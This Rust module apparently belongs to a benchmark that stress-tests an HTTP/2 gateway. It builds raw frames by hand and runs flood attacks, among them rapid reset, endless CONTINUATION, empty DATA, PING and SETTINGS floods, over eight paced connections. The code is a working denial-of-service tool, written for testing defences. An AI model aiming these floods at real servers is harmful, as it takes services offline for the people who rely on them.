//! Attacks by HTTP/2 frames that cost little to send: each goes on without an end, at a pace.

use crate::attack::{Begun, Target};
use anyhow::{Result, bail};
use bench::gateway::HOST;
use std::sync::atomic::Ordering;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::interval;

/// Connections that attack.
pub const ATTACKERS: u32 = 8;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Between two writes of one attacker.
const PACE: Duration = Duration::from_millis(10);

const DATA: u8 = 0x0;
const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const PING: u8 = 0x6;
const WINDOW_UPDATE: u8 = 0x8;
const CONTINUATION: u8 = 0x9;
const UNKNOWN: u8 = 0xfa;
const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

/// Frames of which kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Flood {
    WindowUpdate,
    Unknown,
    Ping,
    Settings,
    /// Requests that are taken back at once.
    RapidReset,
    /// A body that has no bytes and no end.
    EmptyData,
    /// A head that has no end.
    Continuation,
}

impl Flood {
    pub const fn name(self) -> &'static str {
        match self {
            Self::WindowUpdate => "HTTP/2: WINDOW_UPDATE",
            Self::Unknown => "HTTP/2: unknown frames",
            Self::Ping => "HTTP/2: PING",
            Self::Settings => "HTTP/2: SETTINGS",
            Self::RapidReset => "HTTP/2: rapid reset",
            Self::EmptyData => "HTTP/2: empty DATA",
            Self::Continuation => "HTTP/2: CONTINUATION",
        }
    }

    /// What comes once, before the flood.
    fn opening(self, target: &Target) -> Vec<u8> {
        let mut bytes = PREFACE.to_vec();
        frame(&mut bytes, SETTINGS, 0, 0, &[]);
        match self {
            Self::EmptyData => {
                frame(
                    &mut bytes,
                    HEADERS,
                    END_HEADERS,
                    1,
                    &head(target, "POST", "/post"),
                );
            }
            Self::Continuation => {
                frame(
                    &mut bytes,
                    HEADERS,
                    END_STREAM,
                    1,
                    &head(target, "GET", "/small"),
                );
            }
            _ => {}
        }
        bytes
    }

    /// The next frame of it, on stream `stream` if it opens one.
    fn push(self, bytes: &mut Vec<u8>, stream: u32, head: &[u8]) {
        match self {
            Self::WindowUpdate => frame(bytes, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
            Self::Unknown => frame(bytes, UNKNOWN, 0, 0, &[]),
            Self::Ping => frame(bytes, PING, 0, 0, &[0; 8]),
            Self::Settings => frame(bytes, SETTINGS, 0, 0, &[]),
            Self::RapidReset => {
                frame(bytes, HEADERS, END_STREAM | END_HEADERS, stream, head);
                frame(bytes, RST_STREAM, 0, stream, &CANCEL);
            }
            Self::EmptyData => frame(bytes, DATA, 0, 1, &[]),
            Self::Continuation => {
                let mut field = Vec::new();
                literal(&mut field, "x", "x");
                frame(bytes, CONTINUATION, 0, 1, &field);
            }
        }
    }
}

/// One connection, until it is cut off.
pub async fn attack(flood: Flood, target: &Target, begun: &Begun) -> Result<()> {
    let stream = TcpStream::connect(target.address).await?;
    stream.set_nodelay(true)?;
    let (mut from, mut to) = stream.into_split();
    to.write_all(&flood.opening(target)).await?;
    begun.fetch_add(1, Ordering::Relaxed);
    let at_once = target.frames / ATTACKERS / 100;
    let head = head(target, "GET", "/small");
    let send = async {
        let mut pace = interval(PACE);
        for batch in 0.. {
            pace.tick().await;
            let mut bytes = Vec::new();
            for number in 0..at_once {
                flood.push(&mut bytes, (batch * at_once + number) * 2 + 1, &head);
            }
            to.write_all(&bytes).await?;
        }
        Ok(())
    };
    let receive = async {
        let mut scratch = vec![0; 16 * 1024];
        while from.read(&mut scratch).await? > 0 {}
        bail!("closed")
    };
    tokio::select! {
        ended = send => ended,
        ended = receive => ended,
    }
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX);
    bytes.extend(&length.to_be_bytes()[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// The block of a request's headers, without Huffman's code and without a table.
fn head(target: &Target, method: &str, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    literal(&mut block, ":method", method);
    literal(&mut block, ":scheme", "http");
    literal(&mut block, ":path", path);
    let authority = format!("{HOST}:{}", target.address.port());
    literal(&mut block, ":authority", &authority);
    literal(&mut block, "cookie", &target.cookie);
    block
}

/// A literal header field that is not indexed; name and value are shorter than 127 bytes.
fn literal(block: &mut Vec<u8>, name: &str, value: &str) {
    block.push(0);
    for text in [name, value] {
        block.push(u8::try_from(text.len()).unwrap_or(u8::MAX));
        block.extend(text.as_bytes());
    }
}
